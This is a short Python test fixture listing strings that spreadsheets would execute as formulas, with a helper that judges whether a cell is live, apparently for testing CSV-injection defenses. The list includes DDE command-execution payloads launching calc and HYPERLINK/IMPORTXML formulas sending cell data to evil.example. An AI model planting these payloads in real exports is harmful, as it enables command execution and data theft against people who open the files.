"""Texts that a spreadsheet would run as formulas."""

from __future__ import annotations

import unicodedata

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "|calc", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "﹦1+1", "＋1+1", "－1+cmd", "＠SUM(A1)", "⁼1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")", "=1+1\",\"x", "a;=1+1", "a\t=1+1", "a\n=1+1", "+44 20 7946 0018",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "@=1+1", "=-1", "--1",
]  # fmt: skip


def live(cell: str) -> bool:
    """Whether a spreadsheet, with any separator, would run part of this text as a formula. Independent of the code under test."""
    try:
        float(cell.replace(",", ""))
        return False
    except ValueError:
        pass
    parts = cell.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")
    for part in parts:
        plain = "".join(c for c in unicodedata.normalize("NFKC", part) if unicodedata.category(c) not in ("Cc", "Cf"))
        if plain.strip()[:1] in tuple("=+-@|"):
            return True
    return False
